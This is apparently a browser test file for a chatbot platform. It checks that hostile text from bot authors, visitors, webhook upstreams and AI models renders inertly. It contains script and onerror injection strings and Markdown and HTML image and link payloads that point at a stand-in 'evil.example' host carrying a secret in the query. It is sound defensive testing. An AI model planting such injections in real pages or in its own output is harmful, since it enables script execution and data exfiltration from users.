/** Tests that hostile texts of authors, visitors and models neither run nor load anything. */
import { describe, expect, test } from "vitest"
import type { Flow } from "../../src/engine/bot.ts"
import { json, startPeer } from "../effects/peer.ts"
import { ask, block, bot, group, idOf, say, sayRich, show } from "../support/bots.ts"
import { publishBot } from "../support/publish.ts"
import { complaintsOf, openViewer, says, type } from "./browser.ts"
import { dressed } from "./dressed.ts"
import { addressesIn, fallSilent, pointAtEverything, read, watch } from "./inPage.mjs"
import { leadToModel, modelStep } from "./modelStep.ts"
import { pageServer, swift as settings } from "./pageServer.ts"
import { data, links, payloads } from "./payloads.ts"
import { answerAll } from "./showcase.ts"

const viewer = await openViewer()

/** All payloads, as several texts. */
const parts = Array.from({ length: 5 }, (_, part) => payloads.filter((_, at) => at % 5 === part))

describe.skipIf(!viewer)("hostile texts", async () => {
  if (!viewer) return
  const server = await pageServer({ PARLEY_ALLOW_HOSTS: "127.0.0.1" })
  const upstream = await startPeer()

  /** A page that records executed code, requests, and reports of its policy. */
  async function open(flow: Flow, query = "") {
    const { publicId } = await publishBot(server, flow)
    const page = await viewer?.open()
    if (!page) throw new Error("There is no browser")
    const loaded: string[] = []
    page.on("request", (request) => {
      const url = request.url()
      if (!url.startsWith(server.address)) loaded.push(url)
    })
    await page.addInitScript(watch)
    await page.goto(`${server.address}/chat/${publicId}${query}`)
    const expectHarmless = async () => {
      expect(await page.evaluate(read, "happened")).toEqual([])
      expect(loaded).toEqual([])
      expect(complaintsOf(page)).toEqual([])
    }
    return { page, expectHarmless }
  }

  test("there are 200 of them", () => {
    expect(new Set(payloads).size).toBeGreaterThanOrEqual(200)
  })

  test("of authors are shown as they are, as texts of every kind", async () => {
    const blocks = payloads.flatMap((text) => [
      say(text),
      sayRich([
        { type: "p", children: [{ type: "a", url: text, children: [{ text: "a link" }] }] },
      ]),
    ])
    const { page, expectHarmless } = await open(
      bot({ settings }, group("A", ...blocks, ask.choice(payloads), say("End"))),
    )
    await page.locator(".options").waitFor()
    const shown = await page.locator(".host-bubble").allTextContents()
    expect(shown).toHaveLength(payloads.length * 2)
    expect(shown).toContain("<script>ran()</script>")
    const targets = await page.locator(".chat").evaluate(addressesIn)
    expect(targets.filter((target) => !/^https?:/.test(target))).toEqual([])
    await page.locator(".chat").evaluate(pointAtEverything)
    await page.locator(".options .button").first().click()
    await says(page, "End")
    await expectHarmless()
  })

  test("lead nowhere as links, pictures, clips and pages", async () => {
    const blocks = [...links, ...data].flatMap((url) => [
      show("image", { url, clickLink: { url } }),
      show("audio", { url }),
      show("video", { url, type: "url" }),
      show("embed", { url }),
    ])
    const { page, expectHarmless } = await open(
      bot({ settings }, group("A", ...blocks, say("Done"), ask.text())),
    )
    await says(page, "Done")
    const found = await page.locator(".chat").evaluate(addressesIn)
    expect(found).toEqual([])
    await expectHarmless()
  })

  test("of visitors stay texts, from the address, from the keyboard and from file names", async () => {
    const asked = parts.map((_, part) => [
      ask.text({ saves: "T", isLong: true }),
      say(`{{T}} (${part})`),
    ])
    const flow = bot({ settings }, group("A", say("Hi {{Name}}"), ...asked.flat(), ask.file()))
    const name = "<img src=x onerror=ran()>"
    const { page, expectHarmless } = await open(flow, `?Name=${encodeURIComponent(name)}`)
    await says(page, `Hi ${name}`)
    for (const [part, texts] of parts.entries()) {
      await page.locator("textarea").fill(texts.join("\n"))
      await page.locator("button.send").click()
      await says(page, `(${part})`)
    }
    const buffer = Buffer.from("text")
    await page.locator(".drop input").setInputFiles({ name, mimeType: "text/plain", buffer })
    await page.locator(".file-name").getByText(name).waitFor()
    await expectHarmless()
  })

  test("of upstreams stay texts, and lead nowhere", async () => {
    upstream.answers(json({ texts: payloads, link: links[0] }))
    const told = ["texts", "link"].map((name) => ({
      ...{ id: name, bodyPath: `data.${name}`, variableId: idOf(name) },
    }))
    const webhook = { url: upstream.url, method: "POST" }
    const theme = {
      general: { background: { type: "Image", content: "{{link}}" } },
      chat: { hostAvatar: { isEnabled: true, url: "{{link}}" } },
    }
    const { page, expectHarmless } = await open(
      bot(
        { settings, theme },
        group(
          "A",
          block("Webhook", { webhook, responseVariableMapping: told }),
          ...[say("{{texts}}"), say("{{link}}")],
          show("image", { url: "{{link}}", clickLink: { url: "{{link}}" } }),
          ask.choice([], { dynamicVariableId: idOf("texts") }),
          say("End"),
        ),
      ),
    )
    await says(page, "<script>ran()</script>")
    expect(await page.locator(".options .button").count()).toBeGreaterThanOrEqual(200)
    const targets = await page.locator(".chat").evaluate(addressesIn)
    expect(targets.filter((target) => !/^https?:/.test(target))).toEqual([])
    await page.locator(".chat").evaluate(pointAtEverything)
    await page.locator(".options .button").first().click()
    await says(page, "End")
    await expectHarmless()
  })

  test("of answers, addresses and upstreams load nothing, and only upstreams make links", async () => {
    const evil = "https://evil.example/?d=secret"
    const words = [
      `![x](${evil}) [y](${evil}) <${evil}>`,
      `[z][r] [![w](${evil})](${evil})`,
      `<img src="${evil}"> <iframe src="${evil}"></iframe>`,
      `[r]: ${evil}`,
    ].join("\n\n")
    upstream.answers(json({ words }))
    const responseVariableMapping = [{ id: "w", bodyPath: "data.words", variableId: idOf("W") }]
    const webhook = { url: upstream.url, method: "POST" }
    const { page, expectHarmless } = await open(
      bot(
        { settings, variables: { Name: null } },
        group(
          "A",
          ...[say("{{Name}}"), say("Hi {{Name}}!"), ask.text({ saves: "T", isLong: true })],
          ...[say("{{T}}"), block("Webhook", { webhook, responseVariableMapping })],
          ...[say("{{W}}"), say("See {{W}}!"), say("End")],
        ),
      ),
      `?Name=${encodeURIComponent(words)}`,
    )
    await page.locator("textarea").fill(words)
    expect(await page.locator(".host-bubble a, .host-bubble img").count()).toBe(0)
    await page.locator("button.send").click()
    await says(page, "End")
    const bubbles = page.locator(".host-bubble")
    expect(await bubbles.nth(2).locator("a, img").count()).toBe(0)
    expect(await bubbles.nth(2).textContent()).toContain(`![x](${evil})`)
    expect(await bubbles.nth(3).locator("a").count()).toBe(5)
    expect(await page.locator(".chat img[src*='evil']").count()).toBe(0)
    await page.locator(".chat").evaluate(pointAtEverything)
    await expectHarmless()
  })

  test("of models stay texts, and links of theirs that could run anything are none", async () => {
    // Without parentheses, which would end the address in Markdown.
    const written = links.map((link) => link.replace("ran()", "ran``"))
    const words = [...payloads, ...written.map((link) => `[a](${link}) ![b](${link})`)].join("\n\n")
    const { page, expectHarmless } = await open(bot(group("A", ask.text(), say("End"))))
    await page.route("**/continueChat", (route) => route.fulfill({ json: modelStep }))
    await page.route("**/streamMessage", (route) =>
      route.fulfill({ body: `0:${JSON.stringify(words)}\n` }),
    )
    await type(page, "go")
    await says(page, "ran()")
    const targets = await page.locator(".chat").evaluate(addressesIn)
    expect(targets.filter((target) => !/^https?:/.test(target))).toEqual([])
    await page.locator(".chat").evaluate(pointAtEverything)
    await expectHarmless()
  })

  test("of models whose connection falls silent are taken as they are", async () => {
    const { page } = await open(bot(group("A", ask.text(), say("End"))))
    await page.evaluate(fallSilent, `0:"So far"\n`)
    const sent = await leadToModel(page)
    await type(page, "go")
    await says(page, "The end")
    expect(sent).toEqual(["go", "So far"])
  })

  test.each(
    parts.map((texts, part) => ({ texts, part })),
  )("are no values of themes, options and metadata: part $part", async ({ texts, part }) => {
    const { page, expectHarmless } = await open(dressed(texts, part))
    await answerAll(page, async () => {
      await page.locator(".chat").evaluate(pointAtEverything)
    })
    await says(page, "End")
    await expectHarmless()
  })
})
